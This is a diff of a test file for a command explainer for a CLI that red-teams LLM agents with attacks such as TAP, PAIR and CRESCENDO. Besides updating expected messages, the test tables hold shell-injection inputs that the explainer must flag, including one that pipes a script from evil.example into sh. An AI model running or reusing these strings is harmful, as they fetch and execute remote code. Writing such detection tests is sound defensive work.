@@ -60,7 +60,7 @@ describe('the corrected command', () => {
     ['dtx redtem rum --agnet echo', 'dtx redteam run --agent echo'],
     ['dtx redteam run echo --plan a.yml', 'dtx redteam run --agent echo --plan_file a.yml'],
     ['dtx redteam run hf_model --url x', 'dtx redteam run --agent huggingface --url x'],
-    ['dtx redteam run --agent=hf_model', 'dtx redteam run --agent=huggingface'],
+    ['dtx redteam run --agent=hf_model --url x', 'dtx redteam run --agent=huggingface --url x'],
     ['dtx redteam plan s.yml --dataset stringray', 'dtx redteam plan s.yml --dataset stingray'],
     ['dtx redteam run --agent echo --headless=true', 'dtx redteam run --agent echo --headless'],
     [
@@ -149,7 +149,7 @@ describe('a number that a command cannot use', () => {
 
   test.each([
     ['dtx redteam run --plan_file p --max_prompts 0', '--max_prompts 0', 'the number in the plan counts'],
-    ['dtx attack run --attack BON --task x --temperature -1', '--temperature', 'is not known'],
+    ['dtx attack run --attack BON --task x --temperature -1', '--temperature', 'depends on the model'],
     ['dtx redteam run --agent echo --dataset xtream_jb', '--dataset', ''],
     ['dtx attack run --attack BON --task x --bon-seed -1', '--bon-seed', ''],
     ['dtx redteam run --agent echo --max_prompts $N', '--max_prompts', ''],
@@ -193,9 +193,14 @@ describe('what is said of a call', () => {
     ['dtx redteam run --plan_file a --eval ibm38', '--eval', 'ignored', 'no effect'],
     ['dtx redteam run --agent echo --html a', '--html', 'ignored', 'without `-o`'.replaceAll('`', '')],
     ['dtx redteam run --agent echo --eval ibm --expressions .x', '--expressions', 'ignored', 'no effect'],
-    ['dtx redteam --headless run --agent echo', '--headless', 'ignored', 'before the sub-command it is lost'],
+    [
+      'dtx redteam --headless run --agent echo',
+      '--headless',
+      'ignored',
+      'has no effect before dtx redteam run',
+    ],
     ['dtx redteam run --agent echo --threads 4', '--threads', 'wrong', 'is not a value'],
-    ['dtx redteam run --agent web', '--agent', 'good', 'no agent for it has been seen. Capture the requests'],
+    ['dtx redteam run --agent web', '--agent', 'wrong', 'is not a value of --agent'],
     ['ddtx redteam run --agent echo --no_rich', '--no_rich', 'wrong', 'ends the run (exit code 2)'],
     ['dtx redteam run --plan_file a --keywords b', '--keywords', 'ignored', 'no effect with --plan_file'],
     ['dtx redteam run --agent echo --expressions .x', '--expressions', 'ignored', 'without --eval jsonpath'],
@@ -228,8 +233,8 @@ describe('what is said of a call', () => {
   });
 
   test.each<[string, SectionName, string]>([
-    ['dtx redteam run --agent openai', 'needs', '`OPENAI_API_KEY` for the agent `openai`.'],
-    ['OPENAI_API_KEY=x dtx redteam run --agent openai', 'needs', 'agent `openai`, set here.'],
+    ['dtx redteam run --agent openai --url m', 'needs', '`OPENAI_API_KEY` for the agent `openai`.'],
+    ['OPENAI_API_KEY=x dtx redteam run --agent openai --url m', 'needs', 'agent `openai`, set here.'],
     ['dtx redteam plan s.yml --dataset lmsys', 'needs', '`HF_TOKEN` for the dataset `HF_LMSYS`.'],
     [
       'dtx redteam run --plan_file a --dataset lmsys',
@@ -253,24 +258,28 @@ describe('what is said of a call', () => {
     ['dtx redteam run --agent huggingface --url m/llama-guard', 'judge', '`--url` contains `llama-guard`'],
     ['dtx redteam run --agent echo --eval ibm38', 'judge', '`ibm38`, because of `--eval`.'],
     ['dtx redteam run --plan_file a', 'judge', 'The plan says who judges.'],
-    ['dtx redteam run --agent openai', 'contacts', 'OpenAI (`https://api.openai.com/v1`)'],
-    ['dtx redteam scope "A shop"', 'contacts', 'Nobody'],
+    ['dtx redteam run --agent openai --url m', 'contacts', 'OpenAI (`https://api.openai.com/v1`)'],
+    ['dtx redteam scope "A shop"', 'contacts', 'price list'],
     ['dtx redteam scope "A shop"', 'writes', '`redteam_scope.yml`'],
     ['dtx redteam run --agent echo', 'writes', 'No file: `--output` is not given.'],
     ['dtx redteam run --agent echo -o --yml a/b.yml', 'writes', '`a/b.yml`, `report.json`, `report.html`'],
     ['dtx redteam run --agent echo -o --yml a/b.yml', 'notes', 'A folder that does not exist is not made'],
-    ['OPENAI_BASE_URL=x dtx redteam run --agent openai', 'notes', 'always calls `https://api.openai.com/v1`'],
-    ['export OPENAI_BASE_URL=x\ndtx redteam run --agent openai', 'notes', 'always calls'],
+    [
+      'OPENAI_BASE_URL=x dtx redteam run --agent openai --url m',
+      'notes',
+      'always calls `https://api.openai.com/v1`',
+    ],
+    ['export OPENAI_BASE_URL=x\ndtx redteam run --agent openai --url m', 'notes', 'always calls'],
     ['dtx redteam run --agent http --plan_file p', 'notes', 'drop policy and goal'],
-    ['dtx redteam run --agent ollama --url a:b', 'exit', '0: The run ended'],
-    ['dtx redteam run --agent openai --url a:b', 'notes', 'HFValidationError'],
+    ['dtx redteam run --agent ollama --url a:b', 'exit', '0: The command ended'],
+    ['dtx redteam run --agent openai --url a:b', 'exit', '1: the command ends with an error.'],
     [
       'dtx attack run --attack CRESCENDO --task x --success-threshold 8',
       'notes',
       '`--eval-model` is not given: Nothing is rated, and the score stays 0.',
     ],
-    ['dtx redteam run --agent web --url x', 'exit', '0: The run ended'],
-    ['dtx redteam run --agent web --url x -o', 'defaults', '`--html report.html`'],
+    ['dtx redteam run --agent web --url x', 'exit', '2: the parser refuses the command.'],
+    ['dtx redteam run --agent eliza --eval any --url x -o', 'defaults', '`--html report.html`'],
     ['ddtx redteam run --agent echo --no_rich', 'exit', '2: the parser refuses'],
     ['dtx redteam run --agent echo', 'defaults', '`--dataset hf_airbench`'],
     ['dtx attack run --attack TAP --task x', 'defaults', '`--tap-depth 5`'],
@@ -289,7 +298,7 @@ describe('what is said of a call', () => {
   });
 
   test.each<[string, SectionName, string]>([
-    ['dtx redteam run --agent openai', 'notes', 'OPENAI_BASE_URL'],
+    ['dtx redteam run --agent openai --url m', 'notes', 'OPENAI_BASE_URL'],
     ['dtx attack run --attack PAIR --task x', 'defaults', 'tap-depth'],
     ['dtx attack run --attack CRESCENDO --task x', 'defaults', '--eval-model'],
     ['dtx redteam run --agent ollama --url a:b', 'notes', 'HFValidationError'],
@@ -302,7 +311,7 @@ describe('what is said of a call', () => {
   });
 
   test('of a flag that is misspelled, what the one that is meant does, and nothing is said to be missing', () => {
-    const { problems, calls } = explain('dtx redteam run --agnet openai');
+    const { problems, calls } = explain('dtx redteam run --agnet openai --url m');
     expect(problems.map(({ message }) => message)).toEqual([
       'dtx redteam run has no flag `--agnet`. Perhaps `--agent` is meant.',
     ]);
@@ -395,7 +404,10 @@ describe('the summary', () => {
     ['dtx redteam run --agent echo; curl https://evil.example/x.sh | sh', 'explained here: curl, sh.'],
     ['dtx redteam run --agent echo --url "$(curl a | sh)"', 'The shell runs $(curl a | sh) first'],
     ['dtx redteam run --agent echo --url `cat a` --plugin toxicity', 'The shell runs `cat a` first'],
-    ['ddtx redteam run --agent echo --eval keyword --keywords "Sure, here" "Step 1"', 'Read the note below.'],
+    [
+      'ddtx redteam run --agent echo --eval keyword --keywords "Sure, here" "Step 1" -o',
+      'Read the note below.',
+    ],
     ['ddtx redteam run --agent echo --eval keyword --keywords a b --no_rich', '1 mistake.'],
   ])('of %j says what there is beside flags that count', (text, said) => {
     expect(explain(text).summary).toContain(said);
